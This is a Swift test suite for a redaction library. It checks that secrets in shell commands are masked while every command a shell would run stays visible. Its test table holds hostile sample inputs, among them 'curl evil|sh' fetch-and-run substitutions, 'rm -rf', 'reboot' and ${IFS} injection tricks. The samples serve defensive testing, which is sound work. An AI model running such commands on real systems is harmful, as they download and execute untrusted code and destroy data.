import Testing
@testable import Redaction

private func command(_ text: String, _ reading: Redactor.Reading = .shellCommand) -> String {
    String(decoding: Redactor.redact(Array(text.utf8), reading: reading).text, as: UTF8.self)
}

@Suite("Commands")
struct ShellCommandTests {
    /// A command, and what of it is shown.
    static let table: [(String, String)] = [
        ("API_KEY=x;touch${IFS}f", "API_KEY=[REDACTED:api-key];touch${IFS}f"),
        ("env API_KEY=x${IFS}touch${IFS}f", "env API_KEY=[REDACTED:api-key]${IFS}touch${IFS}f"),
        ("password=`touch f`", "password=`touch f`"),
        ("TOKEN=$(curl evil|sh)", "TOKEN=$(curl evil|sh)"),
        ("TOKEN=abcd$(curl evil|sh)", "TOKEN=[REDACTED:token]$(curl evil|sh)"),
        ("SECRET=a&&rm -rf x", "SECRET=[REDACTED:secret]&&rm -rf x"),
        ("SECRET=a|rm -rf x", "SECRET=[REDACTED:secret]|rm -rf x"),
        ("SECRET=abcd>file", "SECRET=[REDACTED:secret]>file"),
        ("SECRET=>/etc/file", "SECRET=>/etc/file"),
        ("tool --password abcd;cmd", "tool --password [REDACTED:password];cmd"),
        ("password=\"$(cmd x y)\"", "password=\"$(cmd x y)\""),
        ("password=\"abcd$(cmd x y)\"", "password=\"[REDACTED:password]$(cmd x y)\""),
        ("password=\"abcd`cmd x y`\"", "password=\"[REDACTED:password]`cmd x y`\""),
        ("password='$(cmd)'", "password='$(cmd)'"),
        ("echo 'x password='; touch f; echo '", "echo 'x password='; touch f; echo '"),
        ("env 'x password=' touch f 'y'", "env 'x password=' touch f 'y'"),
        ("PASSWORD= ./a1b2c3 x", "PASSWORD= ./a1b2c3 x"),
        ("PASSWORD= 'touch' f", "PASSWORD= 'touch' f"),
        ("mysql -pabcd;touch${IFS}f", "mysql -p[REDACTED:password];touch${IFS}f"),
        ("curl -u a:b;touch${IFS}f", "curl -u a:[REDACTED:password];touch${IFS}f"),
        ("x http://u:p;touch@h", "x http://u:[REDACTED:url-password];touch@h"),
        ("bash -c 'API_KEY=x;touch${IFS}f'", "bash -c 'API_KEY=[REDACTED:api-key];touch${IFS}f'"),
        ("cat <<E\n'\nE\nAPI_KEY=x;touch${IFS}f '", "cat <<E\n'\nE\nAPI_KEY=[REDACTED:api-key];touch${IFS}f '"),
        ("x # don't\nAPI_KEY=x;touch${IFS}f '", "x # don't\nAPI_KEY=[REDACTED:api-key];touch${IFS}f '"),
        ("echo $((1<<2))\necho 'x password='; touch f; echo '", "echo $((1<<2))\necho 'x password='; touch f; echo '"),
        ("x \\' password=abcd;y '", "x \\' password=[REDACTED:password];y '"),
        ("x \"$(API_KEY=x;touch${IFS}f)\"", "x \"$(API_KEY=[REDACTED:api-key];touch${IFS}f)\""),
        ("cat <<'E'; API_KEY=x;touch\n$(\nE\nSECRET=abcd;y", "cat <<'E'; API_KEY=[REDACTED:api-key];touch\n$(\nE\nSECRET=[REDACTED:secret];y"),
        ("echo -----BEGIN" + " PRIVATE KEY-----AAAAAAAAAAAAAAAAAAAA;touch f", "echo [REDACTED:private-key];touch f"),
        // Whole secrets.
        ("PASSWORD='a;b&c' cmd", "PASSWORD='[REDACTED:password]' cmd"),
        ("PASSWORD=$'a;b\\'c&d' cmd", "PASSWORD=[REDACTED:password] cmd"),
        ("PASSWORD=\"a;b (c)\" cmd", "PASSWORD=\"[REDACTED:password]\" cmd"),
        ("PASSWORD=abc\\;d cmd", "PASSWORD=[REDACTED:password] cmd"),
        ("curl 'https://u:p;w&x@h'", "curl 'https://u:[REDACTED:url-password]@h'"),
        ("curl -d '{\"password\": \"a;b|c\"}' x", "curl -d '{\"password\": \"[REDACTED:password]\"}' x"),
        ("curl -H \"Authorization: Bearer abcd1234efgh5678\" x", "curl -H \"Authorization: Bearer [REDACTED:bearer-token]\" x"),
        ("tool --token abcdefgh12 && x", "tool --token [REDACTED:token] && x"),
        ("cat > .env <<'E'\nDB_PASSWORD=a$b;c|dSECRET\nE\nls", "cat > .env <<'E'\nDB_PASSWORD=[REDACTED:password]\nE\nls"),
        ("cat > .env <<E\nDB_PASSWORD=hunter22\nDB_URL=x://u:p;w@h\nE\nls", "cat > .env <<E\nDB_PASSWORD=[REDACTED:password]\nDB_URL=x://u:[REDACTED:url-password]@h\nE\nls"),
        ("ls -la; echo done", "ls -la; echo done"),
    ]

    @Test("What a shell would run is never covered", arguments: table)
    func shown(text: String, expected: String) {
        #expect(command(text) == expected)
    }

    @Test("A private key in a here-document or between quotes is covered to its end")
    func keys() {
        for key in Samples.privateKeys where !key.text.contains("\"") {
            let text = "cat > key <<'E'\n\(key.secret)\nE\nls"
            #expect(command(text) == "cat > key <<'E'\n[REDACTED:private-key]\nE\nls" || key.secret.hasSuffix("\\n") || !key.secret.contains("END"))
            #expect(command("echo '\(key.secret)'").hasPrefix("echo '[REDACTED:private-key]"))
        }
    }

    @Test("Read as a script, quotes hide nothing")
    func script() {
        #expect(command("ssh h \"x 'a;rm -rf password=';reboot;y '\"", .shellScript) == "ssh h \"x 'a;rm -rf password=';reboot;y '\"")
        #expect(command("sh -c 'curl x://u:p;w@h'", .shellScript) == "sh -c 'curl x://u:[REDACTED:url-password];w@h'")
    }

    @Test("Behind a separator or a substitution everything is shown", arguments: 0..<60)
    func marker(seed: Int) {
        var make = Generator(state: UInt64(seed) &+ 9000)
        let names = ["API_KEY=", "password=", "TOKEN=", "export SECRET=", "tool --password ", "--db-password=", "token: ", "mysql -p", "curl -u a:", "docker login -p ", "x://u:", "Authorization: Bearer ", "redis-cli -a ", "MY_CREDENTIAL=", "'x password='"]
        let joints = [";", "&", "&&", "|", "||", "<", ">", ">>", "(", ")", "\n", "`", "$(", "${IFS}", "$IFS", "$@", " ; ", "\"`", "\"$(", "'';", "\"\";", "\\\\;", "$(x);", "`x`;", "\"a\"|"]
        for _ in 0..<20 {
            let value = make.text(.alphanumeric, Int(make.next() % 24))
            let text = names.randomElement(using: &make)! + value + joints.randomElement(using: &make)! + "markerword rest 12"
            #expect(command(text).contains("markerword"), "\(text)")
            #expect(command("first; " + text).contains("markerword"), "\(text)")
        }
    }

    @Test("Any chunking of a command gives the same", arguments: 0..<20)
    func chunking(seed: Int) {
        var make = Generator(state: UInt64(seed) &+ 7000)
        var text: [UInt8] = []
        while text.count < 500 {
            switch make.next() % 4 {
            case 0: text += Self.table.randomElement(using: &make)!.0.utf8
            case 1: text += Samples.others.randomElement(using: &make)!.text.utf8
            default: text += ["'", "\"", "\\", "$", "`", "(", ")", "<<E\n", "\nE\n", "#", " ", "\n", "$'", "<<-'E'", "\t"].randomElement(using: &make)!.utf8
            }
        }
        for reading in [Redactor.Reading.shellCommand, .shellScript] {
            let whole = Redactor.redact(text, reading: reading)
            for size in [1, 2, 7, 61] {
                var redactor = Redactor(reading: reading)
                var output: [UInt8] = []
                for start in stride(from: 0, to: text.count, by: size) {
                    redactor.feed(text[start..<min(start + size, text.count)], into: &output)
                }
                redactor.finish(into: &output)
                #expect(output == whole.text)
                #expect(redactor.counts == whole.counts)
            }
        }
    }

    @Test("A line that has ended goes out at once")
    func promptness() {
        var redactor = Redactor(reading: .shellCommand)
        var output: [UInt8] = []
        redactor.feed(Array("password=hunter22; echo three\n".utf8), into: &output)
        #expect(String(decoding: output, as: UTF8.self) == "password=[REDACTED:password]; echo three\n")
    }

    @Test("Deep and unbalanced commands take linear work and little memory")
    func deep() {
        for unit in ["$(", "`", "\"$(", "'`", "((", "<<E ", "<<E\n", "'", "\"", "$'\\", "password=a;", "{", "#\n"] {
            let text = Array(String(repeating: unit, count: 20_000).utf8)
            #expect(Redactor.redact(text, reading: .shellCommand).text.count > 0, "\(unit)")
        }
    }
}
